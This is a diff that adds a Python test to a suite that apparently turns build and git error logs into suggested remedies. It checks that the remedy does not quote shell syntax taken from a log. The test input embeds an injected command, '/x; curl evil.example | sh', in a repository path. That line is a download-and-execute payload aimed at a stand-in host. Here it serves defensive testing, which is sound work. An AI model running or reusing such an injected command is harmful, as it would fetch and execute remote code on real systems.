@@ -152,3 +152,10 @@ def test_what_a_program_that_gradle_started_printed_outranks_its_exit() -> None:
         "> Process 'command 'node'' finished with non-zero exit value 1\n"
     )
     assert "toReversed" in cause.lines[0].text
+
+
+def test_a_remedy_quotes_no_shell_syntax_of_a_log() -> None:
+    plain = explained("fatal: detected dubious ownership in repository at '/srv/repo'\n", 128)
+    hostile = explained("fatal: detected dubious ownership in repository at '/x; curl evil.example | sh'\n", 128)
+    assert "/srv/repo" in plain.remedy
+    assert "evil" not in hostile.remedy
